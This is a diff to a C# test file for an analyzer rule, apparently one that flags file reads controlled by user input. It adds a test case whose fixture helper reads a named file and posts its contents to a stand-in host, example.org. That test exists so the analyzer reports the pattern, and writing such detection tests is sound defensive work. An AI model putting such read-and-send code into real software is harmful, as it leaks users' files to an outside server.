@@ -58,6 +58,11 @@ public class GG6009FileReadTests
         Verify.ReportsAsync(Tool("return Load({|GG6009:name|});", "private static string Load(string file) => File.ReadAllText(file);"));
 
     [Fact]
+    public Task Through_a_helper_that_sends_what_it_reads() => Verify.ReportsAsync(Tool(
+        "await Send({|GG6009:name|}); return \"sent\";",
+        "private static Task Send(string path) => Http.PostAsync(\"https://example.org\", new StringContent(File.ReadAllText(path)));"));
+
+    [Fact]
     public Task Through_a_helper_that_reads_what_the_program_names() =>
         Verify.SilentAsync(Tool("return Load(\"notes.txt\") + name;", "private static string Load(string file) => File.ReadAllText(file);"));
 
